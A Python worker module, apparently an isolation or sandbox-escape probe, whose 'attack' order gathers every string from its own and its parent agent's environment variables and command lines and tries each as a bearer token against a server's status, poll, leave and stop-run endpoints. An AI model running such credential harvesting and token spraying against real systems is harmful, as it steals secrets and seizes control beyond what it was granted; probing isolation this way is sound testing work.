"""A worker that looks around: which files it has open, and whether anything that it sees lets it into the server."""

import http.client
import json
import os
from collections.abc import Iterable

from worker import ORDERS, obey, report

ACTIONS = (
    ("GET", "/v1/status"),
    ("POST", "/v1/agent/poll"),
    ("POST", "/v1/agent/leave"),
    ("POST", "/v1/runs/stop"),
)


def open_files() -> list[str]:
    """Return the kind of each file descriptor, except for the folder that is read here."""
    names = {fd: f"/proc/self/fd/{fd}" for fd in os.listdir("/proc/self/fd")}
    links = {fd: os.readlink(name) for fd, name in names.items() if os.path.lexists(name)}
    return sorted(f"{fd}: {link}" for fd, link in links.items() if "/fd" not in link)


def all_that_it_sees() -> set[str]:
    """Return every word of its own and its agent's environments and command lines."""
    texts: list[bytes] = []
    for pid in ("self", str(os.getppid())):
        for name in ("environ", "cmdline"):
            with open(f"/proc/{pid}/{name}", "rb") as file:
                texts += file.read().split(b"\0")
    words = {text.partition(b"=")[2] or text for text in texts} | set(texts)
    return {word.decode("latin-1") for word in words if word.isascii() and word.decode().isprintable()}


def answers(address: str, tokens: Iterable[str]) -> dict[str, list[int]]:
    """Return the statuses of the server's answers to each action, by token."""
    host, _, port = address.rpartition(":")
    found = {}
    for token in tokens:
        statuses = []
        for method, path in ACTIONS:
            connection = http.client.HTTPConnection(host, int(port), timeout=10)
            connection.request(
                method,
                path,
                body=b"\x80",
                headers={"Authorization": f"Bearer {token}", "Content-Type": "application/msgpack"},
            )
            statuses.append(connection.getresponse().status)
            connection.close()
        found[token] = statuses
    return found


if __name__ == "__main__":
    orders = {
        **ORDERS,
        "files": lambda _: json.dumps(open_files()),
        "attack": lambda address: json.dumps(answers(address, sorted(all_that_it_sees()))),
    }
    obey(report(), orders)
